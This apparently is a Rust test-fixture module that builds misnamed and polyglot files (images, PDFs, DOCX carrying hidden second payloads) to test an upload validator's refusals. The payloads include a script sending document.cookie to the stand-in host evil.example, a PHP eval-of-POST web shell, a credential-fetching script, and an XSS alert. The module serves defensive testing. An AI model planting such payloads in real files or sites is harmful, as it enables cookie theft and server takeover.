//! Files that are not what they say, and files that are two things at once.

use threadwell_domain::attachment::{ContentRefusal, FileKind};

use super::{
    Fate, Specimen, docx,
    foreign::foreign,
    pdf,
    pictures::{self, Scene, chunk, segment},
    zip,
};

const MISMATCH: ContentRefusal = ContentRefusal::KindMismatch;

/// Everything that is something else: foreign files under the names of the five kinds, the kinds under each other's
/// names, and polyglots.
pub fn confused() -> Vec<Specimen> {
    let mut all = Vec::new();
    for kind in FileKind::ALL {
        for (name, bytes) in foreign() {
            all.push(Specimen::refused(format!("{name} as {kind:?}"), kind, bytes, MISMATCH));
        }
        for (other, bytes) in one_of_each().into_iter().filter(|(other, _)| *other != kind) {
            all.push(Specimen::refused(format!("{other:?} as {kind:?}"), kind, bytes, MISMATCH));
        }
    }
    all.extend(polyglots());
    all
}

fn one_of_each() -> Vec<(FileKind, Vec<u8>)> {
    let scene = Scene::new(64, 48, 1);
    vec![
        (FileKind::Jpeg, pictures::jpeg(&scene, 90, false, false)),
        (FileKind::Png, pictures::png(&scene, false, &[])),
        (FileKind::Gif, pictures::gif(64, 48, 1)),
        (FileKind::Pdf, pdf::minimal()),
        (FileKind::Docx, docx::minimal()),
    ]
}

/// What the second half of a polyglot is.
fn payloads() -> Vec<(&'static str, Vec<u8>)> {
    let class = zip::Entry::stored("Evil.class", b"\xca\xfe\xba\xbe evil evil evil evil evil evil");
    vec![
        (
            "HTML",
            b"<html><script>/*polyglot*/fetch('//evil.example/'+document.cookie)</script></html>".to_vec(),
        ),
        ("PHP", b"<?php /*polyglot*/ eval(base64_decode($_POST['payload'])); __halt_compiler(); ?>".to_vec()),
        ("JAR", zip::archive(&[class])),
        (
            "script",
            b"*/=1;/*polyglot*/ fetch('/api/auth/me').then(r=>r.text()).then(t=>top.post(t)) //".to_vec(),
        ),
    ]
}

/// Files that are one of the five kinds and something else as well. Pictures may pass: what is kept of them is new.
pub fn polyglots() -> Vec<Specimen> {
    let mut all = Vec::new();
    for (what, payload) in payloads() {
        for (place, kind, bytes) in pictures_with(&payload) {
            let name = format!("{kind:?} with {what} {place}");
            all.push(Specimen { name, kind, bytes, fate: Fate::Accepted, payload: Some(payload.clone()) });
        }
        let (pdf, docx) = (pdf::minimal(), docx::minimal());
        let before = |file: &[u8]| [payload.as_slice(), b"\n", file].concat();
        let behind = |file: &[u8]| [file, payload.as_slice()].concat();
        let refused = |name: &str, kind, bytes| {
            let why = if kind == FileKind::Docx { ContentRefusal::ArchiveRejected } else { MISMATCH };
            Specimen::refused(format!("{kind:?} with {what} {name}"), kind, bytes, why)
        };
        all.push(refused("before it", FileKind::Pdf, before(&pdf)));
        all.push(refused("behind it", FileKind::Pdf, behind(&pdf)));
        all.push(refused("behind it", FileKind::Docx, behind(&docx)));
        // A container's start is looked for at the very beginning.
        let mut first = refused("before it", FileKind::Docx, before(&docx));
        first.fate = Fate::Refused(if payload.starts_with(b"PK") {
            ContentRefusal::ArchiveRejected
        } else {
            MISMATCH
        });
        all.push(first);
    }
    let comment = b"%PDF-1.4\n%<html><script>alert(1)</script>\n";
    let pdf = [comment.as_slice(), &pdf::minimal()[9..]].concat();
    all.push(Specimen::refused("PDF with HTML in a comment", FileKind::Pdf, pdf, MISMATCH));
    all
}

fn pictures_with(payload: &[u8]) -> Vec<(&'static str, FileKind, Vec<u8>)> {
    let scene = Scene::new(90, 70, 3);
    let jpeg = pictures::jpeg(&scene, 90, false, false);
    let gif = pictures::gif(64, 48, 1);
    let png = pictures::png(&scene, false, &[]);
    let behind = |file: &[u8]| [file, payload].concat();
    let text = [b"Comment\0".as_slice(), payload].concat();
    let mut extension = b"\x21\xfe".to_vec();
    for piece in payload.chunks(200) {
        extension.push(piece.len() as u8);
        extension.extend_from_slice(piece);
    }
    extension.push(0);
    // Behind the screen's header and its palette of four colours.
    let in_gif = [&gif[..25], &extension, &gif[25..]].concat();
    vec![
        ("behind it", FileKind::Jpeg, behind(&jpeg)),
        ("in a comment", FileKind::Jpeg, pictures::with_segments(&jpeg, &[segment(0xfe, payload)])),
        ("in a segment", FileKind::Jpeg, pictures::with_segments(&jpeg, &[segment(0xe5, payload)])),
        ("behind it", FileKind::Png, behind(&png)),
        ("in a text", FileKind::Png, pictures::png(&scene, false, &[chunk(b"tEXt", &text)])),
        ("in a chunk of its own", FileKind::Png, pictures::png(&scene, false, &[chunk(b"evIl", payload)])),
        ("in its palette", FileKind::Png, palette_of(payload)),
        ("behind it", FileKind::Gif, behind(&gif)),
        ("in a comment", FileKind::Gif, in_gif),
    ]
}

/// A PNG whose colours are the payload: it survives where palettes are copied.
fn palette_of(payload: &[u8]) -> Vec<u8> {
    let colours = &payload[..payload.len() / 3 * 3];
    let count = colours.len() / 3;
    let mut rows = Vec::new();
    for y in 0..40_usize {
        rows.push(0);
        rows.extend((0..40_usize).map(|x| ((x * 5 + y * 3) % count) as u8));
    }
    let pixels = chunk(b"IDAT", &pictures::zlib(&rows));
    pictures::png_of(&[pictures::header(40, 40, 8, 3), chunk(b"PLTE", colours), pixels])
}
